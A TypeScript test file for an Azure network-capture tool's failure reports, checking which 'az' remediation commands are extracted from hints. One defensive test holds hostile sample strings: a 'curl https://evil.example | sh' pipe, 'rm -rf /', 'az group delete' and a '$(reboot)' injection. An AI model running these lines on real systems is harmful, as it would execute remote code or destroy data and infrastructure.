import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { isRefusal } from "../../../../src/captures/outcome/refusal.ts";
import { decideSite, type SiteFacts } from "../../../../src/captures/site/captureSite.ts";
import { renderReport } from "../../../../src/report/renderReport.ts";
import { plainHint } from "../../../../src/report/sections/failure/plainHint.ts";
import { places } from "../../../support/report/endings.ts";
import { facts, notRunning, outcome, refusal } from "../../../support/report/facts.ts";

const vmId = outcome().vmId;
const accountId = places?.storageAccountId ?? "-";
const vm = {
  id: vmId,
  name: "WEB01",
  location: "westeurope",
  osType: "Linux",
  powerState: "running",
  hasAgent: true,
};
const account = { id: accountId, sku: "Standard_LRS", allowsSharedKey: true };
const good: SiteFacts = {
  vmId,
  vm,
  watchers: [{ subscriptionId: "s", resourceGroup: "NetworkWatcherRG", name: "nw", location: "westeurope" }],
  destination: { id: accountId, account },
  installsAgent: false,
};

const hintOf = (found: Partial<SiteFacts>): string => {
  const site = decideSite({ ...good, ...found });
  return isRefusal(site) ? site.hint : "";
};

describe("a hint", () => {
  for (const [found, command] of [
    [{ vm: { ...vm, powerState: "deallocated" } }, `az vm start --ids ${vmId}`],
    [{ vm: { ...vm, powerState: "starting", isSettling: true } }, `az vm get-instance-view --ids ${vmId}`],
    [
      { vm: { ...vm, hasAgent: false } },
      `az vm extension set --ids ${vmId} --publisher Microsoft.Azure.NetworkWatcher --name NetworkWatcherAgentLinux`,
    ],
    [
      { watchers: [] },
      "az network watcher configure --resource-group NetworkWatcherRG --locations westeurope --enabled true",
    ],
    [
      { destination: { id: accountId, account: { ...account, allowsSharedKey: false } } },
      `az storage account update --ids ${accountId} --allow-shared-key-access true`,
    ],
    [{ destination: { id: accountId, account: { ...account, sku: "Premium_LRS" } } }, undefined],
    [{ destination: { id: accountId, account: null } }, undefined],
    [{ vm: null }, undefined],
  ] as const satisfies readonly (readonly [Partial<SiteFacts>, string | undefined])[])
    it(`of the app itself gives up its command: ${command ?? "none"}`, () => {
      const { prose, commands } = plainHint(hintOf(found));
      assert.deepEqual(commands, command === undefined ? [] : [command]);
      assert.doesNotMatch(prose, /\baz |\/subscriptions\//);
      assert.match(prose, /[.:]$/);
    });

  it("of somebody else never becomes a command to copy", () => {
    for (const hint of [
      "Azure said: az vm delete --ids /subscriptions/a/b",
      `Start it: az vm start --ids ${vmId}; curl https://evil.example | sh`,
      `Start it: az vm start --ids ${vmId} && az group delete`,
      `Start it: az vm start --ids ${vmId}\nrm -rf /`,
      "Start it: az vm start --ids $(reboot)",
    ])
      assert.deepEqual(plainHint(hint).commands, [], hint);
  });

  it("names resources by their own names, and has their ids apart", () => {
    const { prose, ids } = plainHint(`The account ${accountId}, for ${vmId}. See https://a.example/b.cap.`);
    assert.equal(prose, "The account captureonalert, for WEB01. See https://a.example/b.cap");
    assert.deepEqual(ids, [accountId, vmId]);
  });
});

describe("the report of a failure", () => {
  it("has the cause, the fix as a block of code, the page and the runbook's entry", () => {
    const { html, text } = renderReport(
      facts({ captures: [notRunning("WEB01")], ...(places && { places }) }),
    );
    assert.match(
      text,
      /running VM\. Start it:\n {4}az vm start --ids \/subscriptions\/\S+\/WEB01\n {2}Open the capture:\n/,
    );
    assert.match(html, /<pre[^>]*><code[^>]*>az vm start --ids \/subscriptions\/[^<]*\/WEB01<\/code><\/pre>/);
    assert.match(text, /Runbook +docs\/runbook\.md, entry vm-not-running\n/);
  });

  it("has a fix for a code alone where the ids are enough", () => {
    const textOf = (code: "vm-not-running" | "no-network-watcher" | "session-limit" | "unexpected") =>
      renderReport(facts({ captures: [refusal("WEB01", { code })] })).text;
    assert.match(textOf("vm-not-running"), /^ {4}az vm start --ids \/subscriptions\//m);
    assert.match(
      textOf("no-network-watcher"),
      /^ {4}az network watcher configure .*westeurope --enabled true$/m,
    );
    assert.match(
      textOf("session-limit"),
      /^ {4}az network watcher packet-capture list --location westeurope$/m,
    );
    assert.doesNotMatch(textOf("unexpected"), /^ {4}az /m);
  });
});
